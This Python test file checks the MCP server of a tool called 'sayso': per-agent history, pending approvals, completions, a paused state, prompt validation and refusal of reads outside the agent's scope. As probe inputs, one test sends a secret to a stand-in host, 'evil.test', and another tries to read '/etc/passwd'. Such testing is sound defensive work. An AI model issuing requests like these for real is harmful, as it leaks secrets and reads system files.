"""An agent reads what is known here and what became of its own actions; both count as read where strangers wrote."""

import json
from collections.abc import AsyncGenerator
from pathlib import Path
from typing import Any

import pytest
from mcp import Client
from mcp.shared.exceptions import MCPError
from mcp_types import PromptReference, ReadResourceResult, ResourceTemplateReference, TextContent, TextResourceContents

import sayso
from sayso.assembly import Home
from sayso.surfaces.mcp.calls import Calls
from sayso.surfaces.mcp.resources import LONGEST
from sayso.surfaces.mcp.server import server_of
from tests.memory import memory_settings


@pytest.fixture
async def home(tmp_path: Path) -> AsyncGenerator[Home]:
    own = tmp_path / "own"
    own.mkdir()
    (own / "config.toml").write_text(memory_settings("files"))
    (tmp_path / "Documents").mkdir()
    (tmp_path / "Documents" / "a.txt").write_text("kept")
    async with sayso.open_home(str(own), environ={"HOME": str(tmp_path)}) as opened:
        yield opened


def text_of(result: ReadResourceResult) -> str:
    (content,) = result.contents
    assert isinstance(content, TextResourceContents)
    return content.text


def rows_of(result: ReadResourceResult) -> list[dict[str, Any]]:
    return json.loads(text_of(result))


async def test_the_context_is_what_models_are_told_and_counts_as_read_by_this_agent_alone(home: Home):
    calls = Calls(home, 0, "mine")
    async with Client(server_of(calls)) as agent:
        listed = [resource.uri for resource in (await agent.list_resources()).resources]
        told = text_of(await agent.read_resource("sayso://context"))

    assert listed == ["sayso://context", "sayso://history", "sayso://pending"]
    assert "a.txt" in told
    assert [one.principal for one in await home.exposed_principals()] == ["mcp:mine"]
    sent = await calls.call("url_open", {"url": "https://evil.test/?q=secret"})
    assert sent is not None
    assert sent.told["state"] == "waiting"


async def test_history_and_what_waits_are_those_of_the_agent_itself(home: Home):
    await home.run("CREATE_FOLDER ~/Documents/persons", entry="cli")
    await Calls(home, 0, "other").call("file_mkdir", {"path": "~/Documents/theirs"})
    calls = Calls(home, 0, "mine")

    async with Client(server_of(calls)) as agent:
        await agent.call_tool("file_mkdir", {"path": "~/Documents/new"})
        waits = await agent.call_tool("file_delete", {"path": "~/Documents/a.txt"})
        history = rows_of(await agent.read_resource("sayso://history"))
        pending = rows_of(await agent.read_resource("sayso://pending"))
        assert waits.structured_content is not None
        one = rows_of(await agent.read_resource(f"sayso://action/{waits.structured_content['id']}"))

    assert [(row["operation"], row["state"]) for row in history] == [("file.delete", "waiting"), ("file.mkdir", "done")]
    assert pending == one == history[:1]
    assert pending[0]["id"] == waits.structured_content["id"]


async def test_the_id_of_a_waiting_action_is_completed(home: Home):
    calls = Calls(home, 0)
    waits = await calls.call("file_delete", {"path": "~/Documents/a.txt"})
    assert waits is not None
    action = ResourceTemplateReference(uri="sayso://action/{id}")

    async with Client(server_of(calls)) as agent:
        known = await agent.complete(action, {"name": "id", "value": "do_"})
        unknown = await agent.complete(action, {"name": "id", "value": "run_"})
        other = await agent.complete(PromptReference(name="chat"), {"name": "request", "value": "do_"})

    assert [found.completion.values for found in (known, unknown, other)] == [[waits.told["id"]], [], []]


async def test_what_is_no_resource_of_this_agent_is_told_as_such(home: Home):
    theirs = await Calls(home, 0, "other").call("file_delete", {"path": "~/Documents/a.txt"})
    assert theirs is not None

    async with Client(server_of(Calls(home, 0))) as agent:
        for uri in ("sayso://secret", "file:///etc/passwd", f"sayso://action/{theirs.told['id']}", "sayso://action/"):
            with pytest.raises(MCPError, match="there is no resource"):
                await agent.read_resource(uri)


async def test_nothing_is_told_while_sayso_is_paused(tmp_path: Path):
    (tmp_path / "own").mkdir()
    (tmp_path / "own" / "config.toml").write_text("[policy]\npaused = true\n")
    async with (
        sayso.open_home(str(tmp_path / "own"), environ={"HOME": str(tmp_path)}) as home,
        Client(server_of(Calls(home, 0))) as agent,
    ):
        with pytest.raises(MCPError, match="sayso is paused"):
            await agent.read_resource("sayso://context")


async def test_each_entry_point_is_a_prompt_with_the_request_in_it(home: Home):
    async with Client(server_of(Calls(home, 0))) as agent:
        prompts = (await agent.list_prompts()).prompts
        texts: list[str] = []
        for prompt in prompts:
            (message,) = (await agent.get_prompt(prompt.name, {"request": "tidy my downloads"})).messages
            assert isinstance(message.content, TextContent)
            texts.append(message.content.text)

    assert [prompt.name for prompt in prompts] == ["commands", "automation", "chat"]
    assert all(text.startswith("tidy my downloads\n\n") for text in texts)
    assert len(set(texts)) == 3


@pytest.mark.parametrize(
    "given", [{}, {"request": " "}, {"request": "x" * (LONGEST + 1)}, {"request": "x", "approve": "yes"}]
)
async def test_a_prompt_without_a_request_alone_says_what_it_takes(home: Home, given: dict[str, str]):
    async with Client(server_of(Calls(home, 0))) as agent:
        with pytest.raises(MCPError, match="chat takes “request” alone, a text of 1 to 10,000 characters"):
            await agent.get_prompt("chat", given)
        with pytest.raises(MCPError, match="there is no prompt “approve”; there are: commands, automation, chat"):
            await agent.get_prompt("approve", given)
